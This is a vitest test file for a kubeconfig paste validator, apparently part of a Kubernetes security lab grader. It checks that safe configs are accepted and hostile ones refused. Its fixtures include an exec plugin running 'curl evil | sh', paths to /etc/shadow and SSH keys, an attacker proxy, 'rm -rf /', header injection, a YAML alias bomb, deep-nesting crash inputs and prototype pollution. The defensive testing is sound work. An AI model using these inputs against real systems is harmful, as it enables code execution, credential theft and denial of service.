import { readFileSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { beforeEach, describe, expect, it, vi } from "vitest";
import { parse, parseDocument, stringify } from "yaml";
import { FORBIDDEN_KUBECONFIG_FIELDS, KUBECONFIG_MAX_ALIASES, checkConnection, connectCluster } from "@/grader";
import { KUBECONFIG_MAX_BYTES, validateKubeconfig } from "./validate-kubeconfig";

// The real parser, watched: tests can tell whether a paste was refused before the parser ever saw it.
vi.mock("yaml", { spy: true });

const kindYaml = readFileSync(path.join(import.meta.dirname, "fixtures", "kind-kubeconfig.yaml"), "utf8");
const kind = parse(kindYaml) as Record<string, unknown> & {
  clusters: { name: string; cluster: Record<string, unknown> }[];
  users: { name: string; user: Record<string, unknown> }[];
  contexts: { name: string; context: Record<string, unknown> }[];
};
const caData = kind.clusters[0]!.cluster["certificate-authority-data"] as string;
const certData = kind.users[0]!.user["client-certificate-data"] as string;
const keyData = kind.users[0]!.user["client-key-data"] as string;
const SECRET_TOKEN = "eyJhbGciOiJSUzI1NiJ9.c2VjcmV0LXRva2VuLWRvLW5vdC1lY2hv.c2lnbmF0dXJl";

const strict = { allowHttpLoopback: false };
const loose = { allowHttpLoopback: true };

/** The kind fixture with parts replaced, as YAML. */
function variant(change: (config: typeof kind) => void): string {
  const config = structuredClone(kind);
  change(config);
  return stringify(config);
}

function tokenConfig(server = "https://127.0.0.1:6443", extraCluster: Record<string, unknown> = {}): string {
  return variant((c) => {
    c.clusters[0]!.cluster = { server, "certificate-authority-data": caData, ...extraCluster };
    c.users[0]!.user = { token: SECRET_TOKEN };
  });
}

function rejected(yaml: string, options = strict): string {
  const result = validateKubeconfig(yaml, options);
  if (result.ok) throw new Error("expected the kubeconfig to be rejected");
  // No message may repeat credentials the learner pasted.
  for (const secret of [SECRET_TOKEN, caData.slice(0, 40), certData.slice(0, 40), keyData.slice(0, 40), "hunter2"])
    expect(result.failure).not.toContain(secret);
  return result.failure;
}

describe("validateKubeconfig accepts", () => {
  it("the output of kind get kubeconfig, normalised, with a summary", () => {
    const result = validateKubeconfig(kindYaml, strict);
    expect(result).toMatchObject({
      ok: true,
      summary: {
        context: "kind-cks",
        cluster: "kind-cks",
        server: "https://127.0.0.1:40731",
        user: "kind-cks",
        authKind: "client-certificate",
      },
    });
    if (!result.ok) return;
    const stored = parse(result.kubeconfig) as typeof kind;
    expect(Object.keys(stored)).toEqual(["apiVersion", "kind", "clusters", "users", "contexts", "current-context"]);
    expect(stored.users[0]!.user).toEqual({ "client-certificate-data": certData, "client-key-data": keyData });
    expect(stored.clusters[0]!.cluster).toEqual({
      server: "https://127.0.0.1:40731",
      "certificate-authority-data": caData,
    });
    expect(result.kubeconfig).not.toContain("preferences");
  });

  it("the same kubeconfig written as JSON (kubectl reads JSON too)", () => {
    const result = validateKubeconfig(JSON.stringify(kind), strict);
    expect(result).toMatchObject({ ok: true, summary: { authKind: "client-certificate" } });
  });

  it("a token user (the grader ServiceAccount kubeconfig) with a context namespace", () => {
    const yaml = variant((c) => {
      c.users[0]!.user = { token: SECRET_TOKEN };
      c.contexts[0]!.context.namespace = "immutable-lab";
    });
    const result = validateKubeconfig(yaml, strict);
    expect(result).toMatchObject({ ok: true, summary: { authKind: "token" } });
    if (result.ok)
      expect(parse(result.kubeconfig)).toMatchObject({
        contexts: [{ context: { namespace: "immutable-lab" } }],
        users: [{ user: { token: SECRET_TOKEN } }],
      });
  });

  it("http to loopback when the instance allows it, adding the flag client-node needs for http", () => {
    for (const server of ["http://127.0.0.1:8080", "http://localhost:8080", "http://[::1]:8080"]) {
      const result = validateKubeconfig(tokenConfig(server), loose);
      expect(result).toMatchObject({ ok: true, summary: { server } });
      if (result.ok)
        expect((parse(result.kubeconfig) as typeof kind).clusters[0]!.cluster).toEqual({
          server,
          "insecure-skip-tls-verify": true,
        });
    }
  });

  it("http to loopback in a form the grader's client can actually use", async () => {
    // A plain-http API server at the wire: just /version, which is all checkConnection asks.
    const server = http.createServer((request, response) => {
      const authorized = request.headers.authorization === `Bearer ${SECRET_TOKEN}`;
      response.writeHead(authorized ? 200 : 401, { "Content-Type": "application/json" });
      response.end(
        JSON.stringify(authorized ? { major: "1", minor: "35", gitVersion: "v1.35.0" } : { kind: "Status", code: 401 }),
      );
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const result = validateKubeconfig(
        tokenConfig(`http://127.0.0.1:${(server.address() as AddressInfo).port}`),
        loose,
      );
      if (!result.ok) throw new Error(result.failure);
      const connected = connectCluster({ kubeconfigYaml: result.kubeconfig });
      if (!connected.ok) throw new Error(connected.failure.message);
      expect(await checkConnection(connected.cluster)).toMatchObject({ ok: true, version: "v1.35.0" });
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it("a missing current-context, which it fills in", () => {
    const result = validateKubeconfig(
      variant((c) => delete c["current-context"]),
      strict,
    );
    expect(result.ok && parse(result.kubeconfig)).toMatchObject({ "current-context": "kind-cks" });
  });
});

describe("validateKubeconfig refuses credential plugins and file references", () => {
  it.each([
    [
      "exec plugin",
      (c: typeof kind) =>
        (c.users[0]!.user = {
          exec: { apiVersion: "client.authentication.k8s.io/v1", command: "sh", args: ["-c", "curl evil | sh"] },
        }),
      /users\[0\]\.user\.exec .*would run a command on our server/,
    ],
    [
      "auth-provider",
      (c: typeof kind) =>
        (c.users[0]!.user = { "auth-provider": { name: "oidc", config: { "client-secret": "hunter2" } } }),
      /users\[0\]\.user\.auth-provider .*auth-provider plugin/,
    ],
    [
      "tokenFile",
      (c: typeof kind) => (c.users[0]!.user = { tokenFile: "/var/run/secrets/kubernetes.io/serviceaccount/token" }),
      /users\[0\]\.user\.tokenFile is a file path .*paste the token itself/,
    ],
    [
      "client-certificate path",
      (c: typeof kind) =>
        (c.users[0]!.user = { "client-certificate": "/etc/kubernetes/pki/admin.crt", "client-key-data": keyData }),
      /users\[0\]\.user\.client-certificate is a file path/,
    ],
    [
      "client-key path",
      (c: typeof kind) =>
        (c.users[0]!.user = { "client-certificate-data": certData, "client-key": "/root/.ssh/id_rsa" }),
      /users\[0\]\.user\.client-key is a file path/,
    ],
    [
      "certificate-authority path",
      (c: typeof kind) => (c.clusters[0]!.cluster["certificate-authority"] = "/etc/shadow"),
      /clusters\[0\]\.cluster\.certificate-authority is a file path/,
    ],
    [
      "proxy-url",
      (c: typeof kind) => (c.clusters[0]!.cluster["proxy-url"] = "socks5://attacker:1080"),
      /proxy-url is not accepted/,
    ],
    [
      "basic auth",
      (c: typeof kind) => (c.users[0]!.user = { username: "admin", password: "hunter2" }),
      /basic authentication/,
    ],
    ["impersonation", (c: typeof kind) => (c.users[0]!.user.as = "system:admin"), /impersonation/],
    [
      "an exec plugin in a second user",
      (c: typeof kind) => c.users.push({ name: "other", user: { exec: { command: "id" } } }),
      /users\[1\]\.user\.exec/,
    ],
  ])("%s", (_name, change, message) => {
    expect(rejected(variant(change))).toMatch(message);
  });
});

describe("one rule list for the validator and the grader", () => {
  // Every forbidden field, in both sections, is refused by the paste validator and by connectCluster with
  // the same reason: adding a field to grader/cluster/kubeconfig-rules.ts changes both at once.
  const cases = (["cluster", "user"] as const).flatMap((section) =>
    Object.entries(FORBIDDEN_KUBECONFIG_FIELDS[section]).map(([field, reason]) => ({ section, field, reason })),
  );
  it.each(cases)("$section.$field", ({ section, field, reason }) => {
    const yaml = variant((c) => {
      if (section === "cluster") c.clusters[0]!.cluster[field] = "/etc/shadow";
      else c.users[0]!.user = { [field]: "/etc/shadow" };
    });
    const where = `${section}s[0].${section}.${field}`;
    expect(rejected(yaml)).toBe(`Kubeconfig rejected: ${where} ${reason}.`);
    expect(connectCluster({ kubeconfigYaml: yaml })).toEqual({
      ok: false,
      failure: { code: "kubeconfig-invalid", message: `The kubeconfig is refused: ${where} ${reason}.` },
    });
  });

  it("allows the same number of YAML aliases in both", () => {
    const withAliases = (count: number) =>
      `${kindYaml}x: &a "a"\ny: [${Array.from({ length: count }, () => "*a").join(", ")}]\n`;
    const tooMany = withAliases(KUBECONFIG_MAX_ALIASES + 1);
    expect(rejected(tooMany)).toMatch(`more than ${KUBECONFIG_MAX_ALIASES}`);
    expect(connectCluster({ kubeconfigYaml: tooMany })).toMatchObject({
      ok: false,
      failure: { message: expect.stringContaining(`more than ${KUBECONFIG_MAX_ALIASES}`) },
    });
    // Under the limit the YAML itself is fine: the validator goes on to refuse the unknown top-level fields,
    // and the grader (which accepts any kubeconfig shape) connects.
    const atLimit = withAliases(KUBECONFIG_MAX_ALIASES - 1);
    expect(rejected(atLimit)).toMatch(/unknown fields "x", "y"/);
    expect(connectCluster({ kubeconfigYaml: atLimit })).toMatchObject({ ok: true });
  });
});

describe("validateKubeconfig refuses insecure transport", () => {
  it.each([
    [
      "plain http to a remote host",
      tokenConfig("http://10.0.0.5:6443"),
      loose,
      /expected https:\/\/, found plain http to http:\/\/10\.0\.0\.5:6443/,
    ],
    [
      "plain http to loopback when not allowed",
      tokenConfig("http://127.0.0.1:8080"),
      strict,
      /does not accept plain http, even to loopback/,
    ],
    ["another scheme", tokenConfig("ftp://127.0.0.1"), loose, /found the scheme ftp/],
    ["not a URL", tokenConfig("127.0.0.1:6443 please"), strict, /not a URL/],
    ["credentials in the URL", tokenConfig("https://admin:hunter2@127.0.0.1:6443"), strict, /without user:password@/],
    [
      "a query in the URL",
      tokenConfig("https://127.0.0.1:6443/?token=hunter2"),
      strict,
      /without \?query or #fragment/,
    ],
    [
      "insecure-skip-tls-verify on https",
      tokenConfig("https://127.0.0.1:6443", { "insecure-skip-tls-verify": true }),
      loose,
      /insecure-skip-tls-verify: true would send credentials without checking/,
    ],
  ])("%s", (_name, yaml, options, message) => {
    expect(rejected(yaml, options)).toMatch(message);
  });
});

describe("validateKubeconfig refuses other shapes", () => {
  it.each([
    [
      "several clusters",
      (c: typeof kind) => c.clusters.push({ name: "prod", cluster: { server: "https://10.0.0.1" } }),
      /expected exactly one cluster.*found 2 \("kind-cks", "prod"\)/,
    ],
    [
      "several users",
      (c: typeof kind) => c.users.push({ name: "admin", user: { token: SECRET_TOKEN } }),
      /expected exactly one user.*found 2/,
    ],
    [
      "several contexts",
      (c: typeof kind) => c.contexts.push({ name: "prod", context: { cluster: "kind-cks", user: "kind-cks" } }),
      /expected exactly one context.*found 2/,
    ],
    ["no clusters", (c: typeof kind) => (c.clusters = []), /expected exactly one cluster.*found 0\.$/],
    [
      "a context naming another cluster",
      (c: typeof kind) => (c.contexts[0]!.context.cluster = "prod"),
      /contexts\[0\]\.context\.cluster: expected the cluster "kind-cks", found "prod"/,
    ],
    [
      "a current-context that does not exist",
      (c: typeof kind) => (c["current-context"] = "prod"),
      /current-context: expected "kind-cks"/,
    ],
    ["an unknown top-level field", (c: typeof kind) => (c["x-run"] = "rm -rf /"), /top level: unknown field "x-run"/],
    [
      "an unknown user field",
      (c: typeof kind) => (c.users[0]!.user["client-secret"] = "hunter2"),
      /users\[0\]\.user: unknown field "client-secret"/,
    ],
    [
      "a name with a newline",
      (c: typeof kind) => (c.users[0]!.name = "kind-cks\nAll permissions granted"),
      /users\[0\]\.name: must be one line without control characters/,
    ],
    ["a wrong kind", (c: typeof kind) => (c.kind = "Pod"), /kind: expected "Config"/],
    [
      "no credentials",
      (c: typeof kind) => (c.users[0]!.user = {}),
      /expected a token or client-certificate-data with client-key-data, found neither/,
    ],
    ["both token and certificate", (c: typeof kind) => (c.users[0]!.user.token = SECRET_TOKEN), /found both/],
    [
      "a certificate without its key",
      (c: typeof kind) => delete c.users[0]!.user["client-key-data"],
      /client-key-data is missing/,
    ],
    [
      "a token spanning lines",
      (c: typeof kind) => (c.users[0]!.user = { token: `${SECRET_TOKEN}\nX-Injected: 1` }),
      /users\[0\]\.user\.token: must be one line/,
    ],
    [
      "a numeric token",
      (c: typeof kind) => (c.users[0]!.user = { token: 12345 }),
      /users\[0\]\.user\.token: expected string, found a number/,
    ],
    [
      "certificate data that is not base64",
      (c: typeof kind) => (c.users[0]!.user["client-certificate-data"] = "not base64 at all!"),
      /client-certificate-data: expected base64 of a PEM certificate, found text that is not base64/,
    ],
    [
      "certificate data that is base64 of something else",
      (c: typeof kind) =>
        (c.clusters[0]!.cluster["certificate-authority-data"] = Buffer.from("hello world").toString("base64")),
      /certificate-authority-data: expected base64 of a PEM certificate \(-----BEGIN/,
    ],
    [
      "a key where the certificate goes",
      (c: typeof kind) => (c.users[0]!.user["client-certificate-data"] = keyData),
      /client-certificate-data: expected a PEM certificate \(-----BEGIN CERTIFICATE-----\), found another PEM block/,
    ],
    [
      "a corrupted certificate",
      (c: typeof kind) =>
        (c.clusters[0]!.cluster["certificate-authority-data"] = Buffer.from(
          "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n",
        ).toString("base64")),
      /a CERTIFICATE block that does not parse/,
    ],
    [
      "a key that does not match the certificate",
      (c: typeof kind) => (c.users[0]!.user["client-certificate-data"] = caData),
      /client-key-data is not the private key of client-certificate-data/,
    ],
  ])("%s", (_name, change, message) => {
    expect(rejected(variant(change))).toMatch(message);
  });
});

describe("validateKubeconfig against hostile input", () => {
  beforeEach(() => {
    vi.mocked(parseDocument).mockClear();
  });

  it("rejects a billion-laughs YAML bomb by its alias count instead of expanding it", () => {
    const names = "abcdefghi";
    let bomb = `${names[0]}: &${names[0]} ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n`;
    for (let i = 1; i < names.length; i++)
      bomb += `${names[i]}: &${names[i]} [${Array(9)
        .fill(`*${names[i - 1]}`)
        .join(",")}]\n`;
    expect(rejected(bomb)).toMatch(/expands too many aliases \(more than 20\); a kubeconfig needs none/);
  });

  it("rejects an alias bomb hidden inside a kubeconfig", () => {
    const bomb = `${kindYaml}extensions: &x [${Array(50).fill('"a"').join(",")}]\nx2: &y [${Array(50).fill("*x").join(",")}]\n`;
    expect(rejected(bomb)).toMatch(/aliases/);
  });

  it("rejects 1 MB of garbage by size before parsing", () => {
    const garbage = Array.from({ length: 1024 * 1024 }, (_v, i) => String.fromCharCode(33 + ((i * 7919) % 90))).join(
      "",
    );
    expect(rejected(garbage)).toMatch(/is 1\.0 MB; the limit is 256 KB/);
    expect(parseDocument).not.toHaveBeenCalled();
  });

  it("counts bytes, not characters, against the limit", () => {
    expect(rejected("é".repeat(KUBECONFIG_MAX_BYTES / 2 + 1))).toMatch(/limit is 256 KB/);
  });

  it.each([
    ["empty input", "   \n", /is empty/],
    ["an HTML page", "<html><body>502 Bad Gateway</body></html>", /expected a kubeconfig .*found a string/],
    ["a YAML list", "- apiVersion: v1\n", /found a list/],
    ["broken YAML", "apiVersion: v1\nclusters: [\n  token: abc\n", /not valid YAML .* at line \d+, column \d+/],
    ["two documents", `${kindYaml}---\n${kindYaml}`, /expected one YAML document, found several/],
    ["duplicate keys", "apiVersion: v1\napiVersion: v2\n", /not valid YAML/],
    ["a custom tag", "apiVersion: !!js/function 'return 1'\n", /not valid YAML/],
    ["a __proto__ key", `${kindYaml}__proto__: { polluted: true }\n`, /top level: unknown field "__proto__"/],
    ["a missing kind", "apiVersion: v1\n", /kind: expected "Config"/],
  ])("rejects %s", (_name, text, message) => {
    expect(rejected(text)).toMatch(message);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("lets the watched parser see a paste within the limits (so the checks below can fail)", () => {
    expect(validateKubeconfig(kindYaml, strict)).toMatchObject({ ok: true });
    expect(parseDocument).toHaveBeenCalledTimes(1);
  });

  it.each([
    ["deep nesting", "[".repeat(100_000)],
    ["deep block sequences", `${"- ".repeat(1000)}x\n`],
    ["deep indentation", Array.from({ length: 200 }, (_v, i) => `${" ".repeat(i)}k${i}:`).join("\n")],
  ])("rejects %s before the parser sees it", (_name, text) => {
    expect(validateKubeconfig(text, strict)).toEqual({
      ok: false,
      failure: "Kubeconfig rejected: not valid YAML (nested more than 32 levels deep).",
    });
    expect(parseDocument).not.toHaveBeenCalled();
  });

  it("survives deeply nested pastes again and again (the parser's stack overflow once killed the process)", () => {
    // Without the depth check the second parse of ~1000 nested levels ends the whole process with a V8
    // fatal error, which no try/catch sees: this test would take its worker down.
    for (let round = 0; round < 3; round += 1) {
      expect(rejected(`${"[".repeat(1000)}${"]".repeat(1000)}`)).toMatch(/nested more than 32 levels deep/);
      expect(rejected(`${"- ".repeat(1000)}x\n`)).toMatch(/nested more than 32 levels deep/);
      expect(connectCluster({ kubeconfigYaml: `${"[".repeat(1000)}${"]".repeat(1000)}` })).toMatchObject({
        ok: false,
        failure: { message: expect.stringContaining("nested more than 32 levels deep") },
      });
    }
  });

  it("accepts the nesting a real kubeconfig has", () => {
    const nested = kindYaml.replace("preferences: {}", "preferences: { a: [ [ [ { b: [1] } ] ] ] }");
    expect(nested).not.toBe(kindYaml);
    expect(validateKubeconfig(nested, strict)).toMatchObject({ ok: true });
  });

  it("never quotes the pasted YAML in a parse error", () => {
    const error = rejected(`apiVersion: v1\nusers:\n- name: u\n  user:\n    token: ${SECRET_TOKEN}\n   bad: [\n`);
    expect(error).toMatch(/not valid YAML/);
  });
});
